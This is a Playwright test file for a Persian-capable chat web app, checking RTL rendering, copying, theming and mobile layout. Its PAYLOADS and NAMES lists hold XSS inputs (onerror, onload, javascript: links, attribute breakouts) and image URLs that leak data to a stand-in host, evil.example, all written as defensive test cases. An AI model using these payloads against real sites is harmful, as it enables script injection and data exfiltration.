"""What stands on the page is what was written: Persian, code, and texts that would like to be more than text."""
from collections.abc import Callable

import pytest
from browser.running import PASSWORD, Site
from browser.talk import answers, ask, composer, finished, last_answer, questions
from playwright.sync_api import BrowserContext, Page, expect

pytestmark = pytest.mark.browser

PERSIAN = """سلام! این نسخهٔ Python 3.12 است و می‌خواهیم کتاب‌ها را ببینیم.

1. API یعنی «رابط برنامه‌نویسی».
2. دستور `nvidia-smi` را بزنید.

```js
const name = "سارا";
```

| نام | عدد |
|---|---|
| الف | ۱۲۳ |

پایان \U0001f468\u200d\U0001f469\u200d\U0001f467."""

PAYLOADS = [
    "<img src=x onerror=window.hacked=1>",
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    "[x](javascript:window.hacked=1)",
    "[x](data:text/html,<script>opener.hacked=1</script>)",
    "<svg onload=window.hacked=1>",
    '```mermaid\ngraph TD;A["<img src=x onerror=window.hacked=1>"];click A "javascript:window.hacked=1"\n```',
    "$\\href{javascript:window.hacked=1}{x}$",
    '<a href="//evil.example">x</a>',
    '```"><script>window.hacked=1</script>\nx\n```',
    "![x](https://evil.example/p.png?leak=SECRET)",
    "![x](//evil.example/p.png)",
]


def test_a_persian_answer_reads_from_right_to_left_and_its_code_does_not(page: Page) -> None:
    ask(page, f"say {PERSIAN}")
    prose = last_answer(page)
    expect(prose).to_have_attribute("dir", "rtl")
    expect(questions(page).locator(".bubble")).to_have_attribute("dir", "rtl")
    assert prose.locator("figure.code").evaluate("node => getComputedStyle(node).direction") == "ltr"
    assert prose.locator("li code").evaluate("node => getComputedStyle(node).direction") == "ltr"
    number, text = prose.locator("li").first.evaluate(
        """item => {
          const range = document.createRange();
          range.selectNodeContents(item);
          return [item.parentElement.getBoundingClientRect().right, range.getBoundingClientRect().right];
        }"""
    )
    assert 0 < number - text < 60, "the list has its numbers at the right"
    assert page.evaluate("document.fonts.check('16px Vazirmatn', 'سلام')")


def test_the_reader_can_turn_a_message_round_and_it_stays_so(page: Page) -> None:
    ask(page, "say سلام دنیا")
    expect(last_answer(page)).to_have_attribute("dir", "rtl")
    page.get_by_role("button", name="Change the text direction").click()
    expect(last_answer(page)).to_have_attribute("dir", "ltr")
    page.reload()
    expect(last_answer(page)).to_have_attribute("dir", "ltr")


def test_the_composer_writes_in_the_direction_of_what_is_written(page: Page) -> None:
    composer(page).fill("سلام")
    assert composer(page).evaluate("node => getComputedStyle(node).direction") == "rtl"
    composer(page).fill("hello")
    assert composer(page).evaluate("node => getComputedStyle(node).direction") == "ltr"


def test_a08_joiners_are_the_same_in_question_answer_title_and_after_a_reload(page: Page) -> None:
    text = "می‌روم کتاب‌ها \U0001f468\u200d\U0001f469\u200d\U0001f467"
    ask(page, f"say {text}")
    for _ in range(2):
        assert last_answer(page).evaluate("node => node.textContent.trim()") == text
        assert questions(page).locator(".bubble").evaluate("node => node.textContent") == f"say {text}"
        assert page.locator(".row a bdi").evaluate("node => node.textContent") == f"say {text}"
        page.reload()
        finished(page)


def test_a08_copying_an_answer_copies_what_was_written(page: Page, site: Site) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.address)
    ask(page, "say **می‌روم** و `x`")
    answers(page).get_by_role("button", name="Copy").first.click()
    expect(answers(page).get_by_role("button", name="Copied")).to_be_visible()
    assert page.evaluate("navigator.clipboard.readText()") == "**می‌روم** و `x`"


def test_code_is_coloured_when_it_is_finished_and_can_be_copied(page: Page, site: Site) -> None:
    page.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=site.address)
    ask(page, "say ```python\ndef f(x):\n    return x < 1 & 2\n```")
    expect(last_answer(page).locator(".hljs-keyword").first).to_have_text("def")
    expect(last_answer(page).locator("figcaption")).to_have_text("python")
    page.get_by_role("button", name="Copy code").click()
    page.wait_for_function("navigator.clipboard.readText().then(text => text === 'def f(x):\\n    return x < 1 & 2')")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_g06_a_payload_runs_nowhere_whole_or_streamed(site: Site, page: Page, payload: str) -> None:
    """The fixture fails the test for every dialog, policy violation, script error and request to another host."""
    site.hold()
    ask(page, f"say {payload}", wait=False)
    expect(page.get_by_role("button", name="Stop")).to_be_visible()
    for _ in range(len(payload) + 2):
        site.let(1)  # a token is a byte here: every prefix is drawn or at least may be
    site.let_run()
    finished(page)
    page.reload()  # and whole, with the page itself, in title and question too
    finished(page)
    expect(questions(page).locator(".bubble")).to_have_text(f"say {payload}")
    assert page.evaluate("window.hacked") is None
    assert page.locator("#app :is(img, iframe, script, object, embed, form:not(.composer))").count() == 0
    for link in last_answer(page).locator("a").all():
        assert (link.get_attribute("href") or "").startswith(("https://", "http://", "mailto:"))
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"


def test_g06_a_title_is_text_too(page: Page) -> None:
    ask(page, "say x")
    row = page.locator(".row")
    row.hover()
    row.get_by_role("button").click()
    page.get_by_role("button", name="Rename").click()
    page.get_by_label("New title").fill("<img src=x onerror=window.hacked=1>")
    page.get_by_label("New title").press("Enter")
    expect(page.locator(".row a")).to_have_text("<img src=x onerror=window.hacked=1>")
    page.reload()
    expect(page.locator(".row a")).to_have_text("<img src=x onerror=window.hacked=1>")
    assert page.evaluate("window.hacked") is None


NAMES = ["</script><img src=x onerror=window.hacked=1>", "\" onfocus=window.hacked=1 autofocus x=\""]


@pytest.mark.parametrize("name", NAMES)
def test_g06_the_name_of_a_reader_is_text_too(
    site: Site, open_context: Callable[..., BrowserContext], name: str
) -> None:
    site.call(lambda: site.house.accounts.create(name, PASSWORD))
    page = open_context().new_page()
    page.goto("/sign-in")
    page.context.watched.refusals = 1  # type: ignore[attr-defined]
    for password in ("wrong", PASSWORD):  # the form gives back what was typed
        page.get_by_label("Name").fill(name)
        page.get_by_label("Password").fill(password)
        page.get_by_role("button", name="Sign in").click()
        assert page.evaluate("window.hacked") is None
    expect(page.locator(".account-button bdi")).to_have_text(name)
    page.reload()
    expect(page.locator(".account-button bdi")).to_have_text(name)
    assert page.evaluate("window.hacked") is None
    assert page.locator(":is(img, iframe, [onfocus], [onerror])").count() == 0


def test_the_sign_in_is_no_secret_that_a_script_could_read(page: Page) -> None:
    assert "hamdam" not in page.evaluate("document.cookie")


def test_light_and_dark_follow_the_system_until_the_reader_chooses(sign_in: Callable[..., Page]) -> None:
    page = sign_in(color_scheme="dark")
    ground = "getComputedStyle(document.documentElement).backgroundColor"
    dark = page.evaluate(ground)
    page.locator(".account-button").click()
    page.get_by_label("Light").check()
    light = page.evaluate(ground)
    assert light != dark
    page.reload()
    assert page.evaluate("document.documentElement.dataset.theme") == "light"  # the server drew it so: no flash
    assert page.evaluate(ground) == light


def test_on_a_phone_the_list_is_a_drawer(sign_in: Callable[..., Page]) -> None:
    page = sign_in(viewport={"width": 390, "height": 844}, has_touch=True, is_mobile=True)
    composer(page).fill("say | a | b |\n|---|---|\n| " + "long " * 40 + " | x |")
    page.get_by_role("button", name="Send").click()
    finished(page)
    assert page.evaluate("document.documentElement.scrollWidth") == 390
    expect(page.get_by_role("navigation")).to_have_count(0)
    page.get_by_role("button", name="Open the list").click()
    expect(page.get_by_role("navigation")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.get_by_role("navigation")).to_have_count(0)
